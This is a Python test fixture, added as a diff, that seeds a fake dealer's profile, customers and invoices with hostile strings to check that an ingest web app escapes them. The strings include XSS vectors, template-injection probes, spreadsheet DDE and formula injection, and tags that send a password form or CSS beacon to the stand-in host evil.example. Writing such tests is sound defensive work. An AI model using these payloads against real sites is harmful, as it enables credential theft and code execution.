@@ -1,0 +1,124 @@
+"""Texts that attack whoever shows them, and a dealer that has them in every field (threat 9).
+
+Whatever became an element of a page has the class `hostile`; whatever was computed reads 1337.
+"""
+
+from collections.abc import Iterator
+from dataclasses import dataclass, replace
+from datetime import datetime
+from itertools import count, islice
+
+from chalicelib.identity.model import Kind, Membership, Role
+from chalicelib.ingest.checks.cells import Text
+from chalicelib.ingest.checks.schemas import CUSTOMERS, DOCUMENTS, INVOICE_LINES, TRANSACTIONS, Schema
+from chalicelib.kernel.ids import Ids
+from tests import bundles
+from tests.fixtures.cast import Cast, House, add_person, make_house
+from tests.fixtures.worlds import World
+from tests.ingest.exports import export
+from tests.ingest.pipeline import Line
+from tests.sweeps.stage import Stage
+
+TEXTS = (
+    "<script>alert(1)</script>",
+    "<b class=hostile>",
+    "'\"><img class=hostile src=x onerror=alert(1)>",
+    '" autofocus onfocus=alert(1) class="hostile',
+    "' onmouseover='alert(1)' class='hostile",
+    "javascript:alert(1)",
+    "{{7*191}}",
+    "{{7*191}}${7*191}#{7*191}<%=7*191%>",
+    "{% for x in ().__class__.__base__.__subclasses__() %}",
+    "<svg class=hostile onload=alert(1)>",
+    "</title></style></textarea><i class=hostile>",
+    "</script><script class=hostile>alert(1)</script>",
+    "<iframe class=hostile srcdoc='<script>top.alert(1)</script>'>",
+    "<a class=hostile href=javascript:alert(1)>pay here</a>",
+    "<div class=hostile hx-get=/logout hx-trigger=load>",
+    "<link class=hostile rel=stylesheet href=//evil.example>",
+    "<meta class=hostile http-equiv=refresh content='0;//evil.example'>",
+    "<base class=hostile href=//evil.example/>",
+    "<form class=hostile action=//evil.example><input name=password>",
+    "<style class=hostile>*{background:url(//evil.example)}</style>",
+    "--><!--<b class=hostile>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b class=hostile&#62;",
+    "\u202e<b class=hostile>gnp.exe\u202c",
+    "a\u200b\u2066<b class=hostile>\u2069",
+    '=HYPERLINK("javascript:alert(1)")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '\\"-alert(1)-\\"',
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+)
+EMAILS = ("{{7*191}}@farm.example", "'/onload=alert`1`'@farm.example", "a&lt;b&gt;@farm.example".replace(";", ""))
+OWN = frozenset({"account_ref", "transaction_id", "document_id"})
+"""Given by the world itself: rows must find each other."""
+ACCOUNT = "'\"><b class=hostile>&{{7*191}}"
+"""The account's own number, which stands in links too."""
+INVOICE = "<i class=hostile>/#?%2e{{7*191}}"
+
+
+@dataclass(frozen=True, slots=True)
+class Attack:
+    """All texts from the `shift`-th on, dealt to the fields one after the other; each takes the next that it holds."""
+
+    shift: int = 0
+
+    def texts(self) -> Iterator[str]:
+        """Without end."""
+        return (TEXTS[n % len(TEXTS)] for n in count(self.shift))
+
+    def row(self, schema: Schema, row: dict[str, str]) -> dict[str, str]:
+        """`row` with a hostile text in each column of free text."""
+        texts = self.texts()
+        for column in schema.columns:
+            if isinstance(column.parse, Text) and column.name not in OWN:
+                row[column.name] = self.fitting(texts, column.parse.limit)
+        return row
+
+    def fitting(self, texts: Iterator[str], limit: int) -> str:
+        """The next text of at most `limit` characters."""
+        return next(text for text in islice(texts, len(TEXTS) * 2) if len(text) <= limit).strip()
+
+
+def hostile_house(ids: Ids, now: datetime, attack: Attack) -> House:
+    """A dealer whose own profile is hostile, and a customer of the hostile account."""
+    texts = attack.texts()
+    fit = attack.fitting
+    house = make_house(
+        ids,
+        now,
+        name=fit(texts, 120),
+        prefix="hostile",
+        phone=fit(texts, 32),
+        tagline=fit(texts, 160),
+        vat_number=fit(texts, 20),
+        address=tuple(fit(texts, 120) for _ in range(7)),
+    )
+    offered = Membership(house.dealer.dealer_id, Kind.CUSTOMER, ACCOUNT, fit(texts, 120), Role.USER, active=True)
+    return replace(house, customer=add_person(ids, now, email=f"{ids.dealer_id()}@farm.example", membership=offered))
+
+
+def furnish(world: World, ids: Ids, now: datetime, attack: Attack) -> Stage:
+    """Two exports of the hostile dealer: one that is applied, and one with bad rows that waits for a decision."""
+    house = hostile_house(ids, now, attack)
+    rival = make_house(ids, now, name="Quernmore Trucks", prefix="quernmore", phone="")
+    stage = Stage(Cast(house, rival), ids, now)
+    line = Line(world, house, now, ids)
+    texts = attack.texts()
+    email = EMAILS[attack.shift % len(EMAILS)]
+    customer = attack.row(CUSTOMERS, bundles.customer(ACCOUNT, email=email))
+    customer |= {"master_account_ref": "", "name": next(texts)}
+    rows = [attack.row(TRANSACTIONS, bundles.transaction(ACCOUNT, f"{INVOICE}{n}", "7.70")) for n in range(2)]
+    paper = attack.row(DOCUMENTS, bundles.document(ACCOUNT, "D1", transaction_id=f"{INVOICE}0"))
+    paper |= {"transaction_id": f"{INVOICE}0"}
+    rows[0]["document_id"] = "D1"
+    drawn = attack.row(INVOICE_LINES, bundles.line(ACCOUNT, f"{INVOICE}1", 1, "6.42"))
+    source = {name: next(texts) for name in ("system", "version", "profile")}
+    spoiled = [rows[0], {**rows[1], "transaction_date": next(texts), "due_date": next(texts), next(texts): next(texts)}]
+    for sequence, shown in enumerate((rows, spoiled), 1):
+        bundle = export(
+            line, [customer], shown, sequence, documents=[paper], lines=[drawn], source=source, salt=house.dealer.code
+        )
+        line.take_in(bundle)
+    stage.runs[house.dealer.dealer_id] = 2
+    return stage
